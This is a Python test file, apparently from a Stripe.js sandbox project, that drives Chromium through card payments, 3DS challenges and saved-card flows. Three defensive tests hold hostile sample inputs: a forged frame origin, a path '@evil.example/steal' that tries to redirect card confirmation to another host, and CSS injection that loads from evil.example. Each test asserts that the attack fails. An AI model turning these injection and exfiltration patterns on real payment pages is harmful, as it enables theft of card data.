"""Stripe.js offline: pages written for Stripe.js, served from a merchant origin with their
script src pointing at the sandbox's `/v3/`, driven in Chromium as a buyer would."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
import stripe

from tests.sandbox.stripejs_merchant import Merchant, run_merchant
from tests.support import chromium, wait_for

CARD_FRAME = "iframe[name^='__privateStripeFrame']"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as launched:  # one per module: these tests only open pages
        yield launched


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context()
    p = context.new_page()
    p.set_default_timeout(15_000)
    try:
        yield p
    finally:
        context.close()


@pytest.fixture
def merchant(sandbox_url: str, stripe_key: str) -> Iterator[Merchant]:
    with run_merchant(sandbox_url, stripe_key) as running:
        yield running


def _fill_card(page: Any, number: str, postal: str = "42424") -> None:
    frame = page.frame_locator(f"#card-element {CARD_FRAME}")
    frame.locator("[name=cardnumber]").fill(number)
    frame.locator("[name=exp-date]").fill("12/34")
    frame.locator("[name=cvc]").fill("123")
    frame.locator("[name=postal]").fill(postal)


def _answer_challenge(page: Any, action: str) -> None:
    """Press "Complete authentication" or "Fail authentication" in the 3DS modal."""
    page.frame_locator("[data-paydesk-3ds] iframe").get_by_role("button", name=action).click()


def _fill_payment_element(page: Any, number: str, country: str | None = None) -> None:
    frame = page.frame_locator(f"#payment-element {CARD_FRAME}")
    frame.locator("#Field-numberInput").fill(number)
    frame.locator("#Field-expiryInput").fill("12 / 34")
    frame.locator("#Field-cvcInput").fill("123")
    if country:
        frame.locator("#Field-countryInput").select_option(country)
    frame.locator("#Field-postalCodeInput").fill("94103")


def test_the_seeds_confirm_card_payment_pays_with_4242(
    page: Any, merchant: Merchant, stripe_client: stripe.StripeClient
) -> None:
    page.goto(merchant.url + "/card.html")
    _fill_card(page, "4242424242424242")
    errors = page.locator("#card-errors")
    assert errors.get_attribute("data-brand") == "visa"
    assert errors.get_attribute("data-complete") == "true"
    page.get_by_role("button", name="Pay").click()
    result = page.locator("#result")
    result.filter(has_text="paid").wait_for()
    assert result.inner_text().endswith("succeeded")
    pi = stripe_client.v1.payment_intents.retrieve(merchant.intents[0])
    assert pi.status == "succeeded"
    assert pi.metadata["order_id"] == "42"
    charge = stripe_client.v1.charges.retrieve(str(pi.latest_charge))
    assert charge.billing_details.name == "John Doe"
    assert charge.billing_details.address.postal_code == "42424"
    assert page.locator("#events").inner_text().startswith("ready focus")


def test_the_merchant_page_never_sees_the_card_number(
    page: Any, sandbox_url: str, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/card.html")
    _fill_card(page, "4242424242424242")
    outer = page.evaluate("document.documentElement.outerHTML")
    assert "4242 4242" not in outer and "4242424242424242" not in outer
    assert page.frames[1].evaluate("location.origin") == sandbox_url
    assert page.frames[1].evaluate("location.origin") != page.evaluate("location.origin")


def test_a_frame_told_a_false_parent_origin_refuses_to_work(
    page: Any, sandbox_url: str, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/card.html")
    config = (
        '{"frameId":"x","group":"g","type":"card","key":"pk_test_x",'
        '"origin":"http://evil.example","options":{}}'
    )
    page.evaluate(
        "([src]) => { const f = document.createElement('iframe'); f.id = 'forged';"
        " f.src = src; document.body.appendChild(f); }",
        [sandbox_url + "/v3/elements-inner.html#" + config],
    )
    forged = page.frame_locator("#forged")
    forged.locator("form").filter(has_text="only works inside it").wait_for()
    assert forged.locator("input").count() == 0


def test_a_declined_card_resolves_with_stripes_error(page: Any, merchant: Merchant) -> None:
    page.goto(merchant.url + "/card.html")
    _fill_card(page, "4000000000000002")
    page.get_by_role("button", name="Pay").click()
    result = page.locator("#result")
    result.filter(has_text="error").wait_for()
    assert result.inner_text() == (
        "error card_error card_declined generic_decline: Your card was declined."
    )


def test_validation_messages_are_stripes(page: Any, merchant: Merchant) -> None:
    page.goto(merchant.url + "/card.html")
    frame = page.frame_locator(f"#card-element {CARD_FRAME}")
    frame.locator("[name=cardnumber]").fill("4242424242424241")
    errors = page.locator("#card-errors")
    errors.filter(has_text="Your card number is invalid.").wait_for()
    frame.locator("[name=cardnumber]").fill("4242 4242 4242 4242")
    assert frame.locator("[name=cardnumber]").input_value() == "4242 4242 4242 4242"
    frame.locator("[name=exp-date]").fill("1210")
    errors.filter(has_text="Your card's expiration year is in the past.").wait_for()
    frame.locator("[name=exp-date]").fill("12/34")
    assert frame.locator("[name=exp-date]").input_value() == "12 / 34"
    page.get_by_role("button", name="Pay").click()
    page.locator("#result").filter(has_text="error validation_error incomplete_cvc").wait_for()


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        ("Complete authentication", "paid"),
        (
            "Fail authentication",
            "error invalid_request_error payment_intent_authentication_failure",
        ),
    ],
)
def test_3ds_opens_the_challenge_in_a_modal(
    page: Any, merchant: Merchant, action: str, expected: str
) -> None:
    page.goto(merchant.url + "/card.html")
    _fill_card(page, "4000002500003155")
    page.get_by_role("button", name="Pay").click()
    _answer_challenge(page, action)
    page.locator("#result").filter(has_text=expected).wait_for()
    assert page.locator("[data-paydesk-3ds]").count() == 0


def test_payment_element_confirm_payment_returns_to_the_return_url(
    page: Any, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/payment.html")
    _fill_payment_element(page, "4242424242424242", country="US")
    page.get_by_role("button", name="Pay now").click()
    page.wait_for_url(re.compile(re.escape(merchant.url) + r"/complete\.html\?"))
    assert "redirect_status=succeeded" in page.url
    assert "payment_intent=" + merchant.intents[0] in page.url
    page.locator("#status").filter(has_text="same succeeded").wait_for()
    assert page.locator("#redirect-status").inner_text() == "succeeded"


def test_payment_element_shows_a_decline_without_leaving(page: Any, merchant: Merchant) -> None:
    page.goto(merchant.url + "/payment.html")
    _fill_payment_element(page, "4000000000009995")
    page.get_by_role("button", name="Pay now").click()
    page.locator("#error-message").filter(has_text="insufficient funds").wait_for()
    assert page.url == merchant.url + "/payment.html"


def _fill_split(page: Any, number: str, cvc: str = "123") -> None:
    page.frame_locator(f"#card-number {CARD_FRAME}").locator("[name=cardnumber]").fill(number)
    page.frame_locator(f"#card-expiry {CARD_FRAME}").locator("[name=exp-date]").fill("1234")
    page.frame_locator(f"#card-cvc {CARD_FRAME}").locator("[name=cvc]").fill(cvc)


def test_split_elements_create_a_payment_method_paid_on_the_server(
    page: Any, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/split.html")
    _fill_split(page, "5555555555554444")
    page.locator("#complete").filter(has_text="cardCvc cardExpiry cardNumber").wait_for()
    assert page.locator("#card-number.StripeElement.StripeElement--complete").count() == 1
    assert page.locator("#card-expiry.StripeElement.is-done").count() == 1
    assert page.locator("#brand").inner_text() == "mastercard"
    page.get_by_role("button", name="Pay").click()
    page.locator("#result").filter(has_text="mastercard 4444 succeeded").wait_for()


def test_handle_card_action_runs_3ds_for_a_server_confirmed_intent(
    page: Any, merchant: Merchant, stripe_client: stripe.StripeClient
) -> None:
    page.goto(merchant.url + "/split.html")
    _fill_split(page, "4000002760003184")
    page.get_by_role("button", name="Pay").click()
    _answer_challenge(page, "Complete authentication")
    page.locator("#result").filter(has_text="visa 3184 succeeded").wait_for()
    assert stripe_client.v1.payment_intents.retrieve(merchant.intents[0]).status == ("succeeded")


def test_create_token_from_a_card_element(page: Any, merchant: Merchant) -> None:
    page.goto(merchant.url + "/split.html")
    _fill_split(page, "378282246310005", cvc="1234")  # four digits on an Amex
    page.get_by_role("button", name="Save card").click()
    page.locator("#result").filter(has_text="American Express 0005").wait_for()
    assert page.locator("#result").inner_text().startswith("tok_")


def test_deferred_payment_element_with_redirect_if_required_stays_on_the_page(
    page: Any, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/deferred.html")
    page.get_by_role("button", name="Submit").click()
    page.locator("#result").filter(has_text="submit validation_error incomplete_number").wait_for()
    assert merchant.intents == []  # elements.submit() refused before the server was asked
    frame = page.frame_locator(f"#payment-element {CARD_FRAME}")
    assert (
        "Your card number is incomplete." in frame.locator("#Field-numberInput-error").inner_text()
    )
    _fill_payment_element(page, "4242424242424242")
    page.get_by_role("button", name="Submit").click()
    page.locator("#result").filter(has_text="succeeded /deferred.html").wait_for()
    events = page.locator("#events").inner_text()
    assert "ready:payment" in events and "change:payment" in events and "focus:payment" in events


def test_redirect_to_checkout_still_takes_the_buyer_to_the_session(
    page: Any, sandbox_url: str, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/redirect.html")
    page.get_by_role("button", name="Checkout").click()
    page.wait_for_url(re.compile(re.escape(sandbox_url) + r"/c/pay/cs_"))
    assert page.locator("form[method=post] [name=card_number]").count() == 1


def test_link_authentication_and_address_fill_the_billing_details(
    page: Any, merchant: Merchant, stripe_client: stripe.StripeClient
) -> None:
    page.goto(merchant.url + "/details.html")
    email = page.frame_locator(f"#link-authentication-element {CARD_FRAME}")
    email.locator("[name=email]").fill("jenny@example.com")
    page.locator("#email").filter(has_text="jenny@example.com").wait_for()
    address = page.frame_locator(f"#address-element {CARD_FRAME}")
    address.locator("#Field-nameInput").fill("Jenny Rosen")
    address.locator("#Field-countryInput").select_option("GB")
    address.locator("#Field-addressLine1Input").fill("1 Main Street")
    address.locator("#Field-localityInput").fill("London")
    address.locator("#Field-postalCodeInput").fill("EC1A 1BB")
    page.locator("#address").filter(has_text="Jenny Rosen, London GB").wait_for()
    _fill_payment_element(page, "4242424242424242")
    page.locator("#payment-element.StripeElement--complete").wait_for()
    # From the keyboard: under load Chromium sometimes routed a mouse click here, just
    # below three freshly resized cross-site frames, into one of the frames.
    page.get_by_role("button", name="Pay now").press("Enter")
    page.locator("#result").filter(has_text="succeeded").wait_for()
    pi = stripe_client.v1.payment_intents.retrieve(merchant.intents[0])
    details = stripe_client.v1.charges.retrieve(str(pi.latest_charge)).billing_details
    assert (details.name, details.email) == ("Jenny Rosen", "jenny@example.com")
    assert (details.address.line1, details.address.city) == ("1 Main Street", "London")
    assert (details.address.postal_code, details.address.country) == ("EC1A 1BB", "GB")


@pytest.mark.parametrize(
    ("number", "action", "expected"),
    [
        ("4242424242424242", None, "succeeded pm_"),
        ("4000002760003184", "Complete authentication", "succeeded pm_"),
        ("4000002760003184", "Fail authentication", "error setup_intent_authentication_failure"),
    ],
)
def test_confirm_card_setup_saves_the_card(
    page: Any,
    merchant: Merchant,
    stripe_client: stripe.StripeClient,
    number: str,
    action: str | None,
    expected: str,
) -> None:
    page.goto(merchant.url + "/setup.html")
    frame = page.frame_locator(f"#card-element {CARD_FRAME}")
    frame.locator("[name=cardnumber]").fill(number)
    frame.locator("[name=exp-date]").fill("12 / 34")
    frame.locator("[name=cvc]").fill("123")
    page.get_by_role("button", name="Save card").click()
    if action:
        _answer_challenge(page, action)
    page.locator("#result").filter(has_text=expected).wait_for()
    si = stripe_client.v1.setup_intents.retrieve(merchant.intents[0])
    assert (si.status == "succeeded") == expected.startswith("succeeded")


def test_confirm_setup_with_the_payment_element_returns_to_the_return_url(
    page: Any, merchant: Merchant
) -> None:
    page.goto(merchant.url + "/setup_element.html")
    _fill_payment_element(page, "5555555555554444")
    page.locator("#payment-element.StripeElement--complete").wait_for()
    page.get_by_role("button", name="Save").click()
    page.wait_for_url(re.compile(r".*setup_intent_client_secret=.*"))
    assert "setup_intent=" + merchant.intents[0] in page.url
    page.locator("#status").filter(has_text="succeeded true succeeded").wait_for()


def test_the_page_cannot_send_the_card_anywhere_but_the_sandbox(
    page: Any, sandbox_url: str, merchant: Merchant
) -> None:
    """A hostile page script asks the card's frame to confirm at a path of its choosing (one
    that would turn the API base into another host); the frame derives the path itself."""
    page.goto(merchant.url + "/card.html")
    _fill_card(page, "4242424242424242")
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    result = page.evaluate(
        """() => cardElement._ask('confirm', {path: '@evil.example/steal',
             params: {client_secret: 'pi_123_secret_abc'}})"""
    )
    assert result["status"] == 404  # the sandbox's own answer: no such PaymentIntent
    assert not [url for url in seen if "evil.example" in url]
    assert any(url.startswith(sandbox_url + "/v1/payment_intents/pi_123/confirm") for url in seen)


def test_style_options_cannot_break_out_of_their_rule(page: Any, merchant: Merchant) -> None:
    page.goto(merchant.url + "/card.html")
    page.evaluate(
        """() => cardElement.update({style: {base: {
             color: 'red} input{background:url(https://evil.example/x)',
             fontSize: '20px', backgroundImage: 'url(https://evil.example/y)',
             ':hover{} input': {color: 'blue'}, '::placeholder': {color: 'rgb(1, 2, 3)'}}}})"""
    )
    frame = page.frame_locator(f"#card-element {CARD_FRAME}")
    style = frame.locator("#element-style")

    def updated_css() -> str | None:
        css: str = style.evaluate("el => el.textContent")
        return css if "font-size:20px" in css else None

    css = wait_for(updated_css, "the style update to reach the frame", timeout=10)
    assert "evil.example" not in css and ":hover{}" not in css
    assert "font-size:20px" in css and "::placeholder{color:rgb(1, 2, 3)}" in css
